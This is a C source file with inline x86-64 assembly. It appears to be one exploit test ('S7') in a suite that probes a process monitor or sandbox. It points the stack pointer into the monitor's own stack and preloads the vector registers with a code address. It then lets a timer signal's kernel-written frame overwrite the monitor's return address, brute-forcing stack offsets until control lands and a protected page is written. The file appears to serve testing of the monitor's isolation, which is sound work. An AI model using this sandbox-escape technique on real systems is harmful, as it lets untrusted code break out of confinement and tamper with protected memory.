/*
 * S7: the stack pointer in the monitor's own stack while a call blocks there. From Linux 6.12 on
 * the kernel writes a signal's frame below it past the program's rights: over what the monitor goes
 * on with, its return address among it. The vector registers, full of an address of the program's,
 * are a part of that frame. Natively over a page of the program's own.
 */
#include "attack.h"
#include <poll.h>
#include <sys/time.h>

uint64_t *target __attribute__((visibility("hidden"))),
    *result __attribute__((visibility("hidden")));

__asm__(".pushsection .text\n"
        "landed:\n" /* any stack: it writes where the program may not, and says so where it may */
        "    mov target(%rip), %rax\n"
        "    movq $-1, (%rax)\n"
        "    mov result(%rip), %rax\n"
        "    movq $1, (%rax)\n"
        "1:  pause\n"
        "    jmp 1b\n"
        "block_on:\n" /* (stack, number, a, b, c, d) */
        "    mov %rdi, %rsp\n"
        "    mov %rsi, %rax\n"
        "    mov %rdx, %rdi\n"
        "    mov %rcx, %rsi\n"
        "    mov %r8, %rdx\n"
        "    mov %r9, %r10\n"
        "    mov $8, %r8d\n"
        "    lea landed(%rip), %rbx\n"
        "    movq %rbx, %xmm0\n"
        "    punpcklqdq %xmm0, %xmm0\n"
        "    movdqa %xmm0, %xmm1\n"
        "    movdqa %xmm0, %xmm2\n"
        "    movdqa %xmm0, %xmm3\n"
        "    movdqa %xmm0, %xmm4\n"
        "    movdqa %xmm0, %xmm5\n"
        "    movdqa %xmm0, %xmm6\n"
        "    movdqa %xmm0, %xmm7\n"
        "    movdqa %xmm0, %xmm8\n"
        "    movdqa %xmm0, %xmm9\n"
        "    movdqa %xmm0, %xmm10\n"
        "    movdqa %xmm0, %xmm11\n"
        "    movdqa %xmm0, %xmm12\n"
        "    movdqa %xmm0, %xmm13\n"
        "    movdqa %xmm0, %xmm14\n"
        "    movdqa %xmm0, %xmm15\n"
        "    syscall\n"
        "    ud2\n"
        ".popsection\n");
extern void block_on(uint64_t stack, long number, const void *a, long b, long c, long d)
    __attribute__((visibility("hidden"), noreturn));

static void taken(int signo, siginfo_t *info, void *context)
{
    (void)signo;
    (void)info;
    (void)context;
    raw(SYS_exit_group, 4);
}

/* Blocks for a moment with this stack pointer, by one of the calls that the monitor makes itself.
 */
static bool overwrites(uint64_t stack, int way)
{
    static const uint64_t none = 0;
    *result = 0;
    pid_t pid = MUST(fork());
    if (pid == 0) {
        static uint8_t alternate[65536];
        const stack_t own = {.ss_sp = alternate, .ss_size = sizeof alternate};
        const struct itimerval moment = {{0, 30000}, {0, 30000}};
        MUST(sigaltstack(&own, NULL));
        raw_handle(SIGALRM, taken, SA_SIGINFO | SA_ONSTACK, 0);
        MUST(setitimer(ITIMER_REAL, &moment, NULL));
        if (way == 0) {
            block_on(stack, SYS_rt_sigsuspend, &none, 8, 0, 0);
        } else if (way == 1) {
            block_on(stack, SYS_ppoll, NULL, 0, 0, (long)&none);
        } else if (way == 2) {
            block_on(stack, SYS_open, "fifo", O_RDONLY, 0, 0);
        }
        block_on(stack, SYS_open, "exe", O_RDONLY, 0, 0); /* the monitor looks at such a path */
    }
    int status;
    long long end = monotonic_ns() + 2000000000LL;
    while (waitpid(pid, &status, WNOHANG) == 0) {
        if (*result != 0 || monotonic_ns() > end) {
            MUST(kill(pid, SIGKILL));
            wait_for(pid);
            break;
        }
        usleep(500);
    }
    return *result != 0;
}

int main(void)
{
    result = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    target = target_page();
    if (!under_monitor()) { /* the frame of a signal over what the program keeps */
        uint64_t *pages = map_pages(16 * PAGE, PROT_READ | PROT_WRITE);
        int status;
        pid_t pid = MUST(fork());
        if (pid == 0) {
            raw_handle(SIGALRM, taken, SA_SIGINFO, 0);
            ualarm(2000, 2000);
            static const uint64_t none = 0;
            block_on((uint64_t)(pages + 8192), SYS_rt_sigsuspend, &none, 8, 0, 0);
        }
        status = wait_for(pid);
        if (WIFEXITED(status) && WEXITSTATUS(status) == 4) {
            reached();
        }
        not_reached("%s", ending_word(status));
    }
    static const char *const names[] = {"fifo", "exe"};
    for (int i = 0; i < 2; i++) {
        unlink(names[i]); /* of the run before */
        MUST(mkfifo(names[i], 0600));
    }
    /* The monitor's stack ends somewhere below the thread block: the frame is to lie at its end. */
    uint64_t top = (uint64_t)thread_block();
    for (unsigned down = 4; down < 11; down++) {
        for (unsigned step = 0; step < PAGE; step += 128) {
            for (int way = 0; way < 4; way++) {
                if (overwrites(top - down * PAGE - step, way)) {
                    say("way %d, %u below the block\n", way, (unsigned)(down * PAGE + step));
                    reached();
                }
            }
        }
    }
    not_reached("closed");
}
